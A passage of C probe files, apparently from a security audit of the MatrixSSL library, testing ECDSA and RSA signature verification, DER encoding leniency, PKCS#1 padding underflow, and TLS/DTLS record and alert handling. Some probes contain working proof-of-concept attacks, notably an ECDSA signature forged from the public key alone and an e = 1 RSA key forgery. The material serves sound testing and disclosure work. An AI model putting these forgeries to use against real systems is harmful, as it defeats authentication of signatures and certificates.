    if (psEccDsaSign(NULL, priv, zero, sizeof(zero), sig, &sigLen, 0, NULL) < 0)
    {
        printf("    psEccDsaSign failed\n");
    }
    else
    {
        ok = ecdsa_verify(pub, zero, sizeof(zero), sig, sigLen);
        printf("    => %s\n", ok ? "accepted (fine)" :
            "OBSERVED: VALID signature over the all-zero digest is REFUSED");
    }

    printf("  (b) forgery made from the PUBLIC key only: r = x(G + 2Q) mod n,"
        " s = r/2 mod n\n");
    pstm_init(NULL, &n); pstm_init(NULL, &m); pstm_init(NULL, &one);
    pstm_init(NULL, &b); pstm_init(NULL, &binv); pstm_init(NULL, &r);
    pstm_init(NULL, &s);
    pstm_read_radix(NULL, &n, cv->order, cv->size * 2, 16);
    pstm_read_radix(NULL, &m, cv->prime, cv->size * 2, 16);
    pstm_set(&one, 1);
    pstm_set(&b, 2);
    mG = eccNewPoint(NULL, pub->pubkey.x.alloc * 2);
    mQ = eccNewPoint(NULL, pub->pubkey.x.alloc * 2);
    pstm_read_radix(NULL, &mG->x, cv->Gx, cv->size * 2, 16);
    pstm_read_radix(NULL, &mG->y, cv->Gy, cv->size * 2, 16);
    pstm_set(&mG->z, 1);
    pstm_copy(&pub->pubkey.x, &mQ->x);
    pstm_copy(&pub->pubkey.y, &mQ->y);
    pstm_copy(&pub->pubkey.z, &mQ->z);
    if (eccMulmod(NULL, &one, mG, mG, &m, 0, NULL) < 0 ||
        eccMulmod(NULL, &b, mQ, mQ, &m, 0, NULL) < 0 ||
        pstm_montgomery_setup(&m, &mp) < 0 ||
        eccProjectiveAddPoint(NULL, mQ, mG, mG, &m, &mp, NULL) < 0 ||
        eccMap(NULL, mG, &m, &mp) < 0)
    {
        printf("    point arithmetic failed\n");
        return;
    }
    pstm_mod(NULL, &mG->x, &n, &r);
    pstm_invmod(NULL, &b, &n, &binv);
    pstm_mulmod(NULL, &r, &binv, &n, &s);
    len = der_sig(sig, &r, &s);
    hex("forged sig: ", sig, len);
    ok = ecdsa_verify(pub, zero, sizeof(zero), sig, (psSize_t) len);
    printf("    => %s\n", ok ?
        "OBSERVED: signature made WITHOUT the private key is ACCEPTED for the all-zero digest" :
        "refused (fine)");
    {
        /* same forgery must not work for another digest */
        unsigned char other[32] = { 1 };
        ok = ecdsa_verify(pub, other, sizeof(other), sig, (psSize_t) len);
        printf("    (control, digest 01 00..00: %s)\n",
            ok ? "accepted ?!" : "refused");
    }
    eccFreePoint(mG); eccFreePoint(mQ);
}

/******************************************************************************/
/* 2. u1*G == u2*Q: the addition formula is used where a doubling is needed */
static void probe_ecdsa_doubling(const psEccKey_t *priv, const psEccKey_t *pub)
{
    const psEccCurve_t *cv = pub->curve;
    psEccKey_t eph;
    pstm_int n, r, e, s, kinv, two;
    unsigned char dig[32], tmp[32], sig[160];
    int len, ok, elen;

    printf("[2] ECDSA P-256, valid signature with e = r*d mod n "
        "(then u1*G == u2*Q, R = 2*u1*G)\n");
    memset(&eph, 0, sizeof(eph));
    pstm_init(NULL, &n); pstm_init(NULL, &r); pstm_init(NULL, &e);
    pstm_init(NULL, &s); pstm_init(NULL, &kinv); pstm_init(NULL, &two);
    pstm_read_radix(NULL, &n, cv->order, cv->size * 2, 16);
    if (psEccGenKey(NULL, &eph, cv, NULL) < 0)
    {
        printf("    psEccGenKey failed\n");
        return;
    }
    pstm_mod(NULL, &eph.pubkey.x, &n, &r);          /* r = x(kG) mod n */
    pstm_mulmod(NULL, &r, &priv->k, &n, &e);         /* e = r d */
    pstm_invmod(NULL, &eph.k, &n, &kinv);
    pstm_set(&two, 2);
    pstm_mulmod(NULL, &e, &two, &n, &s);             /* e + r d = 2e */
    pstm_mulmod(NULL, &s, &kinv, &n, &s);            /* s = (e + r d)/k */
    memset(dig, 0, sizeof(dig));
    elen = pstm_unsigned_bin_size(&e);
    pstm_to_unsigned_bin(NULL, &e, tmp);
    memcpy(dig + (32 - elen), tmp, elen);
    len = der_sig(sig, &r, &s);
    hex("digest e:   ", dig, 32);
    hex("signature:  ", sig, len);
    ok = ecdsa_verify(pub, dig, sizeof(dig), sig, (psSize_t) len);
    printf("    => %s\n", ok ? "accepted (fine)" :
        "OBSERVED: mathematically VALID signature is REFUSED (s = (e + r d)/k holds by construction)");
    psEccClearKey(&eph);
}

/******************************************************************************/
/* 3. BER-lax encodings of Ecdsa-Sig-Value */
static void probe_ecdsa_encodings(const psEccKey_t *priv, const psEccKey_t *pub)
{
    unsigned char dig[32], sig[160], alt[170];
    psSize_t sigLen;
    int i, ok, rlen, tries;

    printf("[3] ECDSA P-256, non-DER encodings of a genuine signature\n");
    for (i = 0; i < 32; i++)
    {
        dig[i] = (unsigned char) (i + 1);
    }
    /* want r with its top bit set, i.e. DER r = 02 21 00 xx.. */
    for (tries = 0; tries < 200; tries++)
    {
        sigLen = sizeof(sig);
        if (psEccDsaSign(NULL, priv, dig, sizeof(dig), sig, &sigLen, 0, NULL) < 0)
        {
            printf("    sign failed\n");
            return;
        }
        if (sig[2] == 0x02 && sig[3] == 0x21 && sig[4] == 0x00)
        {
            break;
        }
    }
    if (tries == 200)
    {
        printf("    no suitable signature found\n");
        return;
    }
    rlen = sig[3];
    printf("  (a) r without its leading 00 (a negative INTEGER in DER):\n");
    alt[0] = 0x30; alt[1] = (unsigned char) (sig[1] - 1);
    alt[2] = 0x02; alt[3] = (unsigned char) (rlen - 1);
    memcpy(alt + 4, sig + 5, sigLen - 5);
    ok = ecdsa_verify(pub, dig, sizeof(dig), alt, (psSize_t) (sigLen - 1));
    printf("    => %s\n", ok ? "OBSERVED: accepted" : "refused (fine)");

    printf("  (b) r with two superfluous leading 00 octets:\n");
    alt[0] = 0x30; alt[1] = (unsigned char) (sig[1] + 2);
    alt[2] = 0x02; alt[3] = (unsigned char) (rlen + 2);
    alt[4] = 0; alt[5] = 0;
    memcpy(alt + 6, sig + 4, sigLen - 4);
    ok = ecdsa_verify(pub, dig, sizeof(dig), alt, (psSize_t) (sigLen + 2));
    printf("    => %s\n", ok ? "OBSERVED: accepted" : "refused (fine)");

    printf("  (c) SEQUENCE length in long form (30 81 LL):\n");
    alt[0] = 0x30; alt[1] = 0x81; alt[2] = sig[1];
    memcpy(alt + 3, sig + 2, sigLen - 2);
    ok = ecdsa_verify(pub, dig, sizeof(dig), alt, (psSize_t) (sigLen + 1));
    printf("    => %s\n", ok ? "OBSERVED: accepted" : "refused (fine)");
}

/******************************************************************************/
static const unsigned char sha256_prefix[19] =
{
    0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03,
    0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20
};
static const unsigned char sha256_prefix_nonull[17] =
{
    0x30, 0x2f, 0x30, 0x0b, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03,
    0x04, 0x02, 0x01, 0x04, 0x20
};

static void build_em(unsigned char *em, int k, const unsigned char *prefix,
    int prefixLen, const unsigned char *dig)
{
    int t = prefixLen + 32;

    em[0] = 0x00; em[1] = 0x01;
    memset(em + 2, 0xFF, k - 3 - t);
    em[k - t - 1] = 0x00;
    memcpy(em + k - t, prefix, prefixLen);
    memcpy(em + k - 32, dig, 32);
}

static int rsa_verify(psPubKey_t *pub, const unsigned char *dig,
    const unsigned char *sig, psSize_t sigLen)
{
    psVerifyOptions_t opts;
    psBool_t ok = PS_FALSE;
    psRes_t rc;

    memset(&opts, 0, sizeof(opts));
    opts.msgIsDigestInfo = PS_TRUE;
    rc = psVerifySig(NULL, dig, 32, sig, sigLen, pub, OID_SHA256_RSA_SIG, &ok,
            &opts);
    printf("    psVerifySig rc=%d result=%d\n", (int) rc, (int) ok);
    return rc == PS_SUCCESS && ok == PS_TRUE;
}

/* 4. RSA public key with e = 1 */
static void probe_rsa_e1(psPubKey_t *goodPub)
{
    unsigned char spk[600], nbin[512], em[512], dig[32], sha1[SHA1_HASH_SIZE];
    const unsigned char *p;
    psPubKey_t pk;
    int k = goodPub->keysize, o = 0, seqLen, bitLen, ok;
    int32_t rc;

    printf("[4] RSA public key with public exponent e = 1\n");
    pstm_to_unsigned_bin(NULL, &goodPub->key.rsa.N, nbin);
    /* INTEGER N (with leading 00), INTEGER 1 */
    seqLen = 4 + 1 + k + 3;
    bitLen = 1 + 4 + seqLen;
    spk[o++] = 0x03; spk[o++] = 0x82; spk[o++] = bitLen >> 8; spk[o++] = bitLen & 0xFF;
    spk[o++] = 0x00;
    spk[o++] = 0x30; spk[o++] = 0x82; spk[o++] = seqLen >> 8; spk[o++] = seqLen & 0xFF;
    spk[o++] = 0x02; spk[o++] = 0x82; spk[o++] = (k + 1) >> 8; spk[o++] = (k + 1) & 0xFF;
    spk[o++] = 0x00; memcpy(spk + o, nbin, k); o += k;
    spk[o++] = 0x02; spk[o++] = 0x01; spk[o++] = 0x01;

    memset(&pk, 0, sizeof(pk));
    psInitPubKey(NULL, &pk, PS_RSA);
    p = spk;
    rc = psRsaParseAsnPubKey(NULL, &p, (psSize_t) o, &pk.key.rsa, sha1);
    printf("    psRsaParseAsnPubKey(e=1) rc=%d\n", (int) rc);
    if (rc < 0)
    {
        printf("    => key refused at import (fine)\n");
        return;
    }
    pk.keysize = psRsaSize(&pk.key.rsa);
    memset(dig, 0x5A, sizeof(dig));
    build_em(em, k, sha256_prefix, sizeof(sha256_prefix), dig);
    printf("    'signature' = the padded block itself, no private key:\n");
    ok = rsa_verify(&pk, dig, em, (psSize_t) k);
    printf("    => %s\n", ok ?
        "OBSERVED: key with e = 1 imported and the unsigned padded block ACCEPTED as a signature" :
        "refused (fine)");
    psClearPubKey(&pk);
}

/* 5. DigestInfo without the NULL parameters */
static void probe_rsa_nonull(psPubKey_t *pub, psPubKey_t *priv)
{
    unsigned char em[512], sig[512], dig[32];
    psSize_t sigLen = sizeof(sig);
    int k = pub->keysize, ok;

    printf("[5] RSA PKCS#1 v1.5, DigestInfo whose AlgorithmIdentifier omits "
        "the NULL parameters (17-octet prefix), signed with the private key\n");
    memset(dig, 0x33, sizeof(dig));
    build_em(em, k, sha256_prefix_nonull, sizeof(sha256_prefix_nonull), dig);
    sigLen = k;
    if (psRsaCrypt(NULL, &priv->key.rsa, em, k, sig, &sigLen, PS_PRIVKEY,
            NULL) < 0)
    {
        printf("    psRsaCrypt failed\n");
        return;
    }
    ok = rsa_verify(pub, dig, sig, (psSize_t) k);
    printf("    => %s\n", ok ?
        "OBSERVED: accepted (a second encoding of the same digest verifies; RFC 8017 9.2 note 2 tolerates it, 'the one correct encoding' does not)" :
        "refused (fine)");
}

/* 6. pkcs1Pad length arithmetic */
static void probe_pkcs1pad_underflow(psPubKey_t *pub)
{
    pid_t pid;
    int st;

    printf("[6] psRsaEncryptPub with a message longer than k - 11 (k - 2 "
        "octets)\n");
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        unsigned char in[512], out[512];
        int32_t rc;

        memset(in, 0x41, sizeof(in));
        alarm(20);
        rc = psRsaEncryptPub(NULL, &pub->key.rsa, in,
                (psSize_t) (pub->keysize - 2), out, pub->keysize, NULL);
        _exit(rc < 0 ? 10 : 11);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("    => OBSERVED: child killed by signal %d (%s): randomLen = "
            "outlen - 3 - inlen wraps around in pkcs1Pad\n", WTERMSIG(st),
            strsignal(WTERMSIG(st)));
    }
    else if (WEXITSTATUS(st) == 10)
    {
        printf("    => refused with an error (fine)\n");
    }
    else
    {
        printf("    => OBSERVED: returned success for an over-long message\n");
    }
}

/* 6b. the same arithmetic on the signing side (block type 01, FF fill) */
static void probe_pkcs1pad_underflow_sign(psPubKey_t *priv)
{
    pid_t pid;
    int st;

    printf("[6b] psRsaEncryptPriv (raw PKCS#1 v1.5 signing) with k - 2 octets "
        "to sign\n");
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        unsigned char in[512];
        unsigned char *out = malloc(priv->keysize);
        int32_t rc;

        memset(in, 0x41, sizeof(in));
        alarm(20);
        rc = psRsaEncryptPriv(NULL, &priv->key.rsa, in,
                (psSize_t) (priv->keysize - 2), out, priv->keysize, NULL);
        _exit(rc < 0 ? 10 : 11);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("    => OBSERVED: child killed by signal %d (%s): randomLen = "
            "outlen - 3 - inlen wraps around in pkcs1Pad and the FF fill runs "
            "off the output buffer\n", WTERMSIG(st), strsignal(WTERMSIG(st)));
    }
    else if (WEXITSTATUS(st) == 10)
    {
        printf("    => refused with an error (fine)\n");
    }
    else
    {
        printf("    => OBSERVED: returned success for an over-long message\n");
    }
}

int main(void)
{
    psX509Cert_t *rsaCert = NULL, *ecCert = NULL;
    psPubKey_t rsaPriv;
    psEccKey_t ecPriv;
    const psEccCurve_t *curve;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (psCryptoOpen(PSCRYPTO_CONFIG) < 0)
    {
        return 3;
    }
    if (psX509ParseCert(NULL, RSA2048, RSA2048_SIZE, &rsaCert, 0) < 0 ||
        psX509ParseCert(NULL, EC256, EC256_SIZE, &ecCert, 0) < 0)
    {
        printf("certificate parse failed\n");
        return 3;
    }
    memset(&rsaPriv, 0, sizeof(rsaPriv));
    psInitPubKey(NULL, &rsaPriv, PS_RSA);
    if (psRsaParsePkcs1PrivKey(NULL, RSA2048KEY, RSA2048KEY_SIZE,
            &rsaPriv.key.rsa) < 0)
    {
        printf("RSA key parse failed\n");
        return 3;
    }
    rsaPriv.keysize = psRsaSize(&rsaPriv.key.rsa);
    memset(&ecPriv, 0, sizeof(ecPriv));
    if (getEccParamById(IANA_SECP256R1, &curve) < 0 ||
        psEccParsePrivKey(NULL, EC256KEY, EC256KEY_SIZE, &ecPriv, curve) < 0)
    {
        printf("EC key parse failed\n");
        return 3;
    }

    probe_ecdsa_zero_digest(&ecPriv, &ecCert->publicKey.key.ecc);
    probe_ecdsa_doubling(&ecPriv, &ecCert->publicKey.key.ecc);
    probe_ecdsa_encodings(&ecPriv, &ecCert->publicKey.key.ecc);
    probe_rsa_e1(&rsaCert->publicKey);
    probe_rsa_nonull(&rsaCert->publicKey, &rsaPriv);
    probe_pkcs1pad_underflow(&rsaCert->publicKey);
    probe_pkcs1pad_underflow_sign(&rsaPriv);
    return 0;
}
