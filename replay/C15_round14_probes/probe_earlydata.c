/*
 * probe_earlydata.c - side observation on the UNMODIFIED code
 * (matrixssl/tls13Decode.c, the "ignore decrypt errors" arm of
 * matrixSslDecodeTls13).
 *
 * A TLS 1.3 server that rejects early data has to skip the records it
 * cannot deprotect - until the first record that it CAN deprotect (the
 * client's second flight, RFC 8446 4.2.10). The arm is guarded only by
 * "server, early data offered, early data not accepted" and by the byte
 * budget; reading the decoder alone, nothing seems to end it when the
 * handshake completes, so that an undecryptable record on the ESTABLISHED
 * connection would be dropped silently while budget is left.
 *
 * OUTCOME: NOT confirmed. tls13ClearHsState() wipes ssl->extFlags (and with
 * it got_early_data) when the server reaches SSL_HS_DONE; the corrupted
 * record is answered with a fatal alert and the session is dead.
 *
 * Set-up: external PSK on both sides (the server never accepts early data
 * for an external PSK), server option tls13SessionMaxEarlyData = 16384,
 * the client sends 64 octets of early data.
 *
 * exit 0: the corrupted record killed the session
 * exit 1: it was tolerated
 */
#include "probe_common.h"
#include "testkeys/PSK/tls13_psk.h"

int main(void)
{
    static unsigned char w[MAXWIRE], orig[MAXWIRE];
    sslKeys_t *sk, *ck;
    ssl_t *svr, *cln;
    sslSessOpts_t so, co;
    psTls13SessionParams_t sp;
    psCipher16_t cs[1] = { TLS_AES_128_GCM_SHA256 };
    unsigned char *wb;
    rx_t rx;
    int n, i, early = 0, tolerated = 0, origLen;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    matrixSslNewKeys(&sk, NULL);
    matrixSslNewKeys(&ck, NULL);
    if (matrixSslLoadRsaKeysMem(sk, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(ck, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE) < 0)
    {
        printf("harness: key loading failed\n");
        return 2;
    }
    memset(&sp, 0, sizeof(sp));
    sp.maxEarlyData = 16384;
    if (matrixSslLoadTls13Psk(sk, g_tls13_test_psk_256, 32,
            g_tls13_test_psk_id_sha256, sizeof(g_tls13_test_psk_id_sha256),
            &sp) < 0)
    {
        printf("harness: server PSK\n");
        return 2;
    }
    sp.cipherId = TLS_AES_128_GCM_SHA256;
    if (matrixSslLoadTls13Psk(ck, g_tls13_test_psk_256, 32,
            g_tls13_test_psk_id_sha256, sizeof(g_tls13_test_psk_id_sha256),
            &sp) < 0)
    {
        printf("harness: client PSK\n");
        return 2;
    }
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_3;
    so.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&svr, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, ck, NULL, cs, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("harness: sessions\n");
        return 2;
    }
    if (matrixSslGetMaxEarlyData(cln) <= 0)
    {
        printf("harness: client cannot send early data\n");
        return 2;
    }
    n = matrixSslGetWritebuf(cln, &wb, 64);
    if (n < 64)
    {
        printf("harness: no write buffer for early data\n");
        return 2;
    }
    memset(wb, 'E', 64);
    if (matrixSslEncodeWritebuf(cln, 64) < 0)
    {
        printf("harness: cannot encode early data\n");
        return 2;
    }
    for (i = 0; i < 6; i++)
    {
        n = drain(cln, w, sizeof(w));
        if (n > 0)
        {
            feed(svr, w, n, &rx);
            early += rx.appLen;
            if (rx.failed)
            {
                printf("harness: server failed in the handshake (%d)\n",
                    rx.rc);
                return 2;
            }
        }
        n = drain(svr, w, sizeof(w));
        if (n > 0)
        {
            feed(cln, w, n, &rx);
            if (rx.failed)
            {
                printf("harness: client failed in the handshake (%d)\n",
                    rx.rc);
                return 2;
            }
        }
    }
    if (!matrixSslHandshakeIsComplete(cln) ||
        !matrixSslHandshakeIsComplete(svr))
    {
        printf("harness: handshake did not complete\n");
        return 2;
    }
    printf("handshake complete; server took %d octets of early data, early "
        "data status %d (%d = rejected)\n", early,
        (int) matrixSslGetEarlyDataStatus(svr),
        MATRIXSSL_EARLY_DATA_REJECTED);

    /* sanity: a good record goes through */
    matrixSslEncodeToOutdata(cln, (unsigned char *) "record-0", 8);
    n = drain(cln, w, sizeof(w));
    feed(svr, w, n, &rx);
    printf("good record: rc %d, %d octets delivered\n", rx.rc, rx.appLen);

    /* the corrupted record */
    matrixSslEncodeToOutdata(cln, (unsigned char *) "record-1", 8);
    origLen = drain(cln, orig, sizeof(orig));
    memcpy(w, orig, origLen);
    w[origLen - 1] ^= 0x01;
    feed(svr, w, origLen, &rx);
    n = drain(svr, w, sizeof(w));
    printf("corrupted record: rc %d%s, %d octets delivered, server answers "
        "with %d octets%s\n", rx.rc, rx.failed ? " (failure)" : "",
        rx.appLen, n, (n == 24) ? " (a protected 2 octet record: the "
        "fatal alert)" : "");
    if (!rx.failed && !(n > 0))
    {
        tolerated = 1;
        if (matrixSslEncodeToOutdata(svr, (unsigned char *) "still here", 10)
            > 0)
        {
            printf("  server still encrypts application data\n");
            drain(svr, w, sizeof(w));
        }
        /* continuation: replay of the corrupted record's original */
        feed(svr, orig, origLen, &rx);
        printf("  replay of the original: rc %d, delivered \"%.*s\"\n",
            rx.rc, rx.appLen, rx.app);
    }
    else
    {
        feed(svr, orig, origLen, &rx);
        printf("  replay of the original afterwards: rc %d, %d octets "
            "delivered; server encodes application data: %d\n", rx.rc,
            rx.appLen, (int) matrixSslEncodeToOutdata(svr,
                (unsigned char *) "x", 1));
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(svr);
    matrixSslDeleteKeys(sk);
    matrixSslDeleteKeys(ck);
    matrixSslClose();
    printf("RESULT: %s\n", tolerated ?
        "CONFIRMED - an undecryptable record on the established connection "
        "is skipped" : "not confirmed - the record killed the session");
    return tolerated;
}
