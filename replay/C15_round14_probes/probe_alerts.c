/*
 * probe_alerts.c - side observation on the UNMODIFIED code (TLS <= 1.2
 * decoder, matrixssl/sslDecode.c, case SSL_RECORD_TYPE_ALERT).
 *
 * RFC 5246 6.2.1 lets several messages of one content type share a record.
 * The decoder reads the first (level, description) pair of an alert record
 * and drops the rest of the record. A record "warning user_canceled, fatal
 * handshake_failure" therefore does not kill the session.
 *
 * The probe injects such a record (unprotected, the handshake has not
 * changed keys yet) into a TLS 1.2 client that has sent its ClientHello and
 * then lets the real server flight follow.
 *
 * exit 0: the session was dead after the fatal alert
 * exit 1: the handshake went on and completed
 */
#include "probe_common.h"

static int run(const unsigned char *inj, int injLen, const char *what)
{
    static unsigned char w[MAXWIRE];
    sslKeys_t *sk, *ck;
    ssl_t *svr, *cln;
    sslSessOpts_t so, co;
    psCipher16_t cs[1] = { TLS_RSA_WITH_AES_128_CBC_SHA };
    rx_t rx;
    int n, i, alive = 0;

    printf("%s\n", what);
    matrixSslNewKeys(&sk, NULL);
    matrixSslNewKeys(&ck, NULL);
    if (matrixSslLoadRsaKeysMem(sk, RSA2048, RSA2048_SIZE, RSA2048KEY,
            RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(ck, NULL, 0, NULL, 0, RSA2048CA,
            RSA2048CA_SIZE) < 0)
    {
        return 2;
    }
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    so.versionFlag = co.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&svr, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cln, ck, NULL, cs, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        return 2;
    }
    n = drain(cln, w, sizeof(w));           /* ClientHello */
    feed(svr, w, n, &rx);
    n = drain(svr, w, sizeof(w));           /* ServerHello .. Done */

    feed(cln, inj, injLen, &rx);
    printf("    client: rc %d, %d alert(s) reported, last one level %d "
        "description %d\n", rx.rc, rx.alertSeen, rx.alertLevel, rx.alertDesc);

    feed(cln, w, n, &rx);
    if (rx.failed)
    {
        printf("    client: refuses the server flight (%d) - dead, ok\n",
            rx.rc);
    }
    else
    {
        for (i = 0; i < 4; i++)
        {
            n = drain(cln, w, sizeof(w));
            if (n > 0)
            {
                feed(svr, w, n, &rx);
            }
            n = drain(svr, w, sizeof(w));
            if (n > 0)
            {
                feed(cln, w, n, &rx);
            }
        }
        if (matrixSslHandshakeIsComplete(cln) &&
            matrixSslHandshakeIsComplete(svr) &&
            matrixSslEncodeToOutdata(cln, (unsigned char *) "x", 1) > 0)
        {
            printf("    client: handshake completed and application data is "
                "encrypted after the fatal alert\n");
            alive = 1;
        }
    }
    matrixSslDeleteSession(cln);
    matrixSslDeleteSession(svr);
    matrixSslDeleteKeys(sk);
    matrixSslDeleteKeys(ck);
    return alive;
}

int main(void)
{
    /* alert record: warning(1) user_canceled(90), fatal(2) handshake_failure(40) */
    static const unsigned char two[] = { 21, 3, 3, 0, 4, 1, 90, 2, 40 };
    /* control: the fatal alert alone */
    static const unsigned char one[] = { 21, 3, 3, 0, 2, 2, 40 };
    int a, b;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    b = run(one, sizeof(one), "control: alert record { fatal handshake_failure }");
    a = run(two, sizeof(two), "alert record { warning user_canceled, fatal "
            "handshake_failure }");
    matrixSslClose();
    if (b != 0)
    {
        printf("RESULT: control failed (%d)\n", b);
        return 2;
    }
    printf("RESULT: %s\n", a == 1 ?
        "CONFIRMED - the second (fatal) alert of the record is ignored" :
        "not confirmed - the session was dead");
    return a;
}
