/* Small in-memory harness shared by the side-observation probes. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslImpl.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define MAXWIRE 65536

typedef struct
{
    int rc, failed, hsComplete, alertSeen, alertLevel, alertDesc, appLen;
    unsigned char app[20000];
} rx_t;

static int certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert;
}

/* record by record */
static void feed(ssl_t *ssl, const unsigned char *data, int len, rx_t *rx)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 n, rc, chunk;

    memset(rx, 0, sizeof(*rx));
    while (len > 0)
    {
        chunk = len;
        if (len >= 5)
        {
            chunk = 5 + ((data[3] << 8) | data[4]);
            if (chunk > len)
            {
                chunk = len;
            }
        }
        n = matrixSslGetReadbufOfSize(ssl, chunk, &buf);
        if (n < chunk)
        {
            rx->failed = 1; rx->rc = n;
            return;
        }
        memcpy(buf, data, chunk);
        data += chunk; len -= chunk;
        rc = matrixSslReceivedData(ssl, chunk, &pt, &ptLen);
        for (;; )
        {
            rx->rc = rc;
            if (rc < 0)
            {
                rx->failed = 1;
                return;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                rx->hsComplete = 1;
                break;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                if (ptLen > 0 && rx->appLen + ptLen <= sizeof(rx->app))
                {
                    memcpy(rx->app + rx->appLen, pt, ptLen);
                    rx->appLen += ptLen;
                }
                rc = matrixSslProcessedData(ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                rx->alertSeen++;
                rx->alertLevel = pt[0];
                rx->alertDesc = pt[1];
                rc = matrixSslProcessedData(ssl, &pt, &ptLen);
                continue;
            }
            break;
        }
    }
}

static int drain(ssl_t *ssl, unsigned char *wire, int max)
{
    unsigned char *buf;
    int32 n;
    int total = 0;

    while ((n = matrixSslGetOutdata(ssl, &buf)) > 0)
    {
        if (total + n > max)
        {
            fprintf(stderr, "harness: wire buffer too small\n");
            exit(2);
        }
        memcpy(wire + total, buf, n);
        total += n;
        matrixSslSentData(ssl, n);
    }
    return total;
}
