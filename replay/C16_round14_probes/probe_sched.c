/*
    Probe (side observation hunting, NOT the demo): single-fault schedules.
    For every datagram position k of the handshake one fault is injected:
      drop k, duplicate k, hold k back until the end of its burst,
      hold k back until after the next burst of the same sender.
    When nothing is in flight both retransmission timers fire. The handshake
    must complete and one application record per direction must be delivered
    exactly once.
 */
#include "harness.h"

enum { F_NONE, F_DROP, F_DUP, F_LATE_IN_BURST, F_LATE_NEXT_BURST, F_MAX };
static const char *fname[] = { "none", "drop", "dup", "late-in-burst", "late-next-burst" };

static dgq_t c2s, s2c;
static int counter, faultAt, faultKind, faultDone;
static dgram_t held[2]; static int haveHeld[2];

/* apply the fault to queue q (datagrams just produced by sender 'side') */
static void mangle(dgq_t *q, int side)
{
    int i, j;
    static dgq_t out;

    out.n = 0;
    /* a datagram held for the next burst of this sender goes out last */
    for (i = 0; i < q->n; i++)
    {
        int k = counter++;
        if (!faultDone && k == faultAt)
        {
            faultDone = 1;
            switch (faultKind)
            {
            case F_DROP:
                continue;
            case F_DUP:
                out.d[out.n++] = q->d[i];
                out.d[out.n++] = q->d[i];
                continue;
            case F_LATE_IN_BURST:
                for (j = i + 1; j < q->n; j++)
                {
                    out.d[out.n++] = q->d[j];
                    counter++;
                }
                out.d[out.n++] = q->d[i];
                i = q->n;
                continue;
            case F_LATE_NEXT_BURST:
                held[side] = q->d[i];
                haveHeld[side] = 1;
                continue;
            }
        }
        out.d[out.n++] = q->d[i];
    }
    if (haveHeld[side] == 2 && q->n > 0)
    {
        out.d[out.n++] = held[side];
        haveHeld[side] = 0;
    }
    else if (haveHeld[side] == 1)
    {
        haveHeld[side] = 2; /* release with the next burst */
    }
    memcpy(q, &out, sizeof(out));
}

static int total;

static int run(int32 version, psCipher16_t cipher, int quiet)
{
    peer_t cl, sv;
    int round, ok, svGot = 0;

    c2s.n = s2c.n = 0; counter = 0; faultDone = 0; haveHeld[0] = haveHeld[1] = 0;
    if (h_newPair(&cl, &sv, version, cipher, NULL) < 0)
    {
        exit(2);
    }
    h_flush(&cl, &c2s);
    mangle(&c2s, 0);
    for (round = 0; round < 40 && !(cl.hsComplete && sv.hsComplete) &&
         !cl.failed && !sv.failed; round++)
    {
        svGot += c2s.n;
        h_deliverAll(&sv, &c2s, &s2c);
        mangle(&s2c, 1);
        h_deliverAll(&cl, &s2c, &c2s);
        mangle(&c2s, 0);
        if (c2s.n == 0 && s2c.n == 0 && !(cl.hsComplete && sv.hsComplete))
        {
            h_flush(&cl, &c2s); mangle(&c2s, 0);
            /* a server that never heard of this client has no timer */
            if (svGot > 0)
            {
                h_flush(&sv, &s2c); mangle(&s2c, 1);
            }
        }
    }
    total = counter;
    ok = cl.hsComplete && sv.hsComplete && !cl.failed && !sv.failed;
    if (ok)
    {
        /* late handshake datagrams still in the queues are delivered */
        h_deliverAll(&sv, &c2s, &s2c);
        h_deliverAll(&cl, &s2c, &c2s);
        h_deliverAll(&sv, &c2s, &s2c);
        c2s.n = s2c.n = 0;
        h_sendApp(&cl, "ping", &c2s);
        h_deliverAll(&sv, &c2s, &s2c);
        s2c.n = 0;
        h_sendApp(&sv, "pong", &s2c);
        h_deliverAll(&cl, &s2c, &c2s);
        ok = !cl.failed && !sv.failed && sv.nApp == 1 && cl.nApp == 1;
    }
    if (!ok && !quiet)
    {
        printf("  FAIL fault=%s at datagram %d: client complete=%d failed=%d rc=%d "
            "alert=%d app=%d; server complete=%d failed=%d rc=%d alert=%d app=%d\n",
            fname[faultKind], faultAt, cl.hsComplete, cl.failed, cl.failRc,
            cl.alertDesc, cl.nApp, sv.hsComplete, sv.failed, sv.failRc,
            sv.alertDesc, sv.nApp);
